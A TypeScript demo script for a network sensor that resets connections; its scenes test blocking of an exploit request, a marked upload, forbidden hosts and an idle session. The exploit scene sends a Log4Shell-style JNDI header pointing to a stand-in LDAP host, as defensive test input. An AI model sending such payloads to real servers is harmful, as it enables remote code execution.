/** The scenes of the demo, in the order in which they are played. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { SshServer, sshUnsupported, until, url } from "../mod.ts";
import type { Station } from "../mod.ts";
import { expectThat, outcomeText } from "./stage.ts";
import type { Scene, Stage } from "./stage.ts";

const EXAMPLES = join(import.meta.dirname, "../../../examples");
/** A web application that thinks for 50 ms before it answers. */
export const APPLICATION_PORT = 8_080;
export const APPLICATION = `require("http").createServer((q, a) => setTimeout(() => a.end("ok\\n"), 50)).listen(${APPLICATION_PORT}, "::", () => console.log("up"))`;
const MARK = "TOP-SECRET-CLOUDBERRY";
const UPLOAD_BYTES = 4e9;
const MARK_AT = 20e6;
const FLOWRESET_TIMEOUT_MS = 15_000;

/** An HTTP request with an exploit string, by real curl, from outside to the server pod. */
async function exploit({ net, say }: Stage): Promise<{ code: number | null; text: string }> {
  const target = url(net.server.ipv4, APPLICATION_PORT);
  say(`curl from outside: GET / with the header X-Api-Version: \${jndi:ldap://...}`);
  const { code, stdout, stderr } = await net.outside.run(["curl", "-sS", "-m", "10", "-H", "X-Api-Version: ${jndi:ldap://203.0.113.66/a}", target], { check: false });
  return { code, text: code === 0 ? stdout : stderr.trim() };
}

let uploads = 0;

async function upload(stage: Stage, bytes: number): Promise<{ error: string | undefined; passed: number; port: number; sent: number }> {
  const listener = await stage.server.listen({ port: 9_000 + ++uploads, behaviour: "sink", trigger: MARK });
  const connection = await stage.client.connect({ host: stage.net.server.ipv4, port: listener.port });
  const accepted = await listener.acceptedFrom(connection.localPort);
  stage.say(`an upload at full speed begins; the marked document stands ${MARK_AT / 1e6} MB into it`);
  connection.flood({ bytes, trigger: MARK, triggerAt: MARK_AT });
  if (bytes < UPLOAD_BYTES) {
    await accepted.received(bytes);
    connection.finish();
  }
  const { error } = await connection.closed;
  const { statistics } = await accepted.closed;
  return { error, passed: statistics.bytesAfterTrigger ?? 0, port: connection.localPort, sent: statistics.receivedBytes };
}

async function call(stage: Stage, to: Station, port: number): Promise<string> {
  const connection = stage.client.open({ host: to.ipv4, port });
  return Promise.race([
    connection.connected.then(() => connection.closed).then(({ error }) => error ?? "closed", (error: Error) => error.message),
    new Promise<string>((resolve) => setTimeout(() => resolve("connected"), 2_000)),
  ]);
}

function lastOutcome({ sensor }: Stage, policy: string, since: number): Promise<Awaited<ReturnType<typeof sensor.event>>> {
  return sensor.event(`an outcome of ${policy}`, (event) => event.event_type === "outcome" && event.flowreset.policy === `default/${policy}` && sensor.events.indexOf(event) >= since);
}

export const SCENES: readonly Scene[] = [
  {
    title: "an exploit in an HTTP request: cut before the answer",
    async play(stage) {
      const since = stage.sensor.events.length;
      const { code, text } = await exploit(stage);
      expectThat(code !== 0 && text !== "ok\n", `curl gets no answer: it got ${JSON.stringify(text)}`);
      const outcome = await lastOutcome(stage, "block-exploit", since);
      expectThat(outcome.flowreset.outcome === "Confirmed", `both ends are proved dead: ${outcome.flowreset.outcome}`);
      return `curl: ${text}; ${outcomeText(outcome)}`;
    },
  },
  {
    title: "a marked document in a full-speed upload: cut in mid-stream",
    async play(stage) {
      const { error, passed, port, sent } = await upload(stage, UPLOAD_BYTES);
      expectThat(error !== undefined && sent < UPLOAD_BYTES, `the upload breaks: it ended with ${error} after ${sent} bytes`);
      const outcome = await stage.sensor.outcome(port);
      expectThat(outcome.flowreset.outcome === "Confirmed", `both ends are proved dead: ${outcome.flowreset.outcome}`);
      return outcomeText(outcome, passed);
    },
  },
  {
    title: "a forbidden host 20 ms away: refused in the handshake",
    async play(stage) {
      const since = stage.sensor.events.length;
      await stage.outside.listen({ port: 4_443, behaviour: "sink" });
      stage.say("the client pod calls a host of a forbidden network");
      const answer = await call(stage, stage.net.outside, 4_443);
      expectThat(answer.includes("ECONNREFUSED"), `the client sees ECONNREFUSED: it saw ${answer}`);
      const outcome = await lastOutcome(stage, "forbid-host", since);
      expectThat(outcome.flowreset.reason === "RefusedBeforeEstablished", `the outcome says so: ${outcome.flowreset.reason}`);
      return `the client saw ${answer}; ${outcomeText(outcome)}`;
    },
  },
  {
    title: "a forbidden host next door, where the refusal may lose the race",
    async play(stage) {
      const since = stage.sensor.events.length;
      const near = await stage.net.addPod("neighbour", 13);
      const listening = near.start([process.execPath, "-e", "require('net').createServer((s) => s.on('error', () => {})).listen(4443, () => console.log('up'))"]);
      await listening.waitForOutput(/up/);
      stage.sensor.write("forbid-neighbour.yaml", readFileSync(join(EXAMPLES, "forbid-host.yaml"), "utf8").replace("name: forbid-host", "name: forbid-neighbour").replace("198.51.100.0/24", `${near.ipv4}/32`));
      await until("the new policy in force", async () => (await stage.sensor.metric("flowreset_policies_loaded")) === 4);
      stage.say("a new policy file was dropped into the directory and is in force");
      const answer = await call(stage, near, 4_443);
      expectThat(/ECONNREFUSED|ECONNRESET/.test(answer), `the client is refused or cut at once: it saw ${answer}`);
      const outcome = await lastOutcome(stage, "forbid-neighbour", since);
      expectThat(/^(RefusedBeforeEstablished|CutAfterEstablished)$/.test(outcome.flowreset.reason), `the outcome says which it was: ${outcome.flowreset.reason}`);
      stage.sensor.remove("forbid-neighbour.yaml");
      return `the client saw ${answer}; ${outcomeText(outcome)}`;
    },
  },
  {
    title: "a FlowReset file kills an idle session",
    async play(stage) {
      const unsupported = sshUnsupported();
      const session = unsupported === undefined ? await sshSession(stage) : await plainSession(stage, unsupported);
      stage.say(`${session.what} is idle; kill-session.yaml is dropped into the directory`);
      stage.sensor.write("kill-session.yaml", `apiVersion: flowreset.io/v1alpha1
kind: FlowReset
metadata: {name: kill-session}
spec:
  match: {client: {ip: ${stage.net.client.ipv4}}, server: {ip: ${stage.net.server.ipv4}, port: ${session.port}}}
  reason: demo
`);
      const outcome = await stage.sensor.event("the outcome of the FlowReset", ({ event_type, flowreset }) => event_type === "outcome" && flowreset.flow_reset === "default/kill-session", FLOWRESET_TIMEOUT_MS);
      expectThat(outcome.flowreset.outcome === "Confirmed", `both ends are proved dead: ${outcome.flowreset.outcome}`);
      const states = await Promise.all([
        stage.net.client.namespace.socketState({ remotePort: session.port }),
        stage.net.server.namespace.socketState({ localPort: session.port }),
      ]);
      expectThat(states.every((state) => state === "gone"), `ss shows it at neither end: ${states.join(", ")}`);
      return `${session.what} is gone at both ends; ${outcomeText(outcome)}`;
    },
  },
  {
    title: "the same attacks under mode: Observe: nothing dies, would is counted",
    async play(stage) {
      const before = await stage.sensor.metric("flowreset_would_resets_total");
      for (const file of ["block-exploit.yaml", "stop-marked-document.yaml", "forbid-host.yaml"]) stage.sensor.remove(file);
      await until("the enforcing policies gone", async () => (await stage.sensor.metric("flowreset_policies_loaded")) === 0);
      stage.sensor.write("policies.yaml", readFileSync(join(EXAMPLES, "observe/policies.yaml"), "utf8"));
      const since = stage.sensor.events.length;
        await new Promise((resolve) => setTimeout(resolve, 500));
      const { code, text } = await exploit(stage);
      expectThat(code === 0 && text === "ok\n", `curl gets its answer: exit ${code}, ${JSON.stringify(text)}`);
      const { error, sent } = await upload(stage, MARK_AT + 20e6);
      expectThat(error === undefined && sent >= MARK_AT + 20e6, `the upload arrives whole: ${error ?? sent}`);
      const answer = await call(stage, stage.net.outside, 4_443);
      expectThat(answer === "connected", `the forbidden host answers: ${answer}`);
      await until("three more would-resets", async () => (await stage.sensor.metric("flowreset_would_resets_total")) >= before + 3);
      const did = stage.sensor.events.slice(since).filter(({ event_type }) => event_type !== "alert");
      expectThat(did.length === 0, `nothing is reset: ${JSON.stringify(did[0])}`);
      return "curl got its answer, the upload arrived, the host answered; 3 times would, 0 times did";
    },
  },
];

async function sshSession({ net }: Stage): Promise<{ what: string; port: number }> {
  const server = await SshServer.start(net.server);
  await server.session(net.client);
  return { what: "a real ssh session", port: server.port };
}

async function plainSession(stage: Stage, why: string): Promise<{ what: string; port: number }> {
  stage.say(`no ssh here (${why}): a plain TCP session stands for it`);
  const listener = await stage.server.listen({ port: 9_100, behaviour: "echo" });
  const connection = await stage.client.connect({ host: stage.net.server.ipv4, port: listener.port });
  connection.write("hello");
  await connection.received(5);
  return { what: "a TCP session", port: listener.port };
}
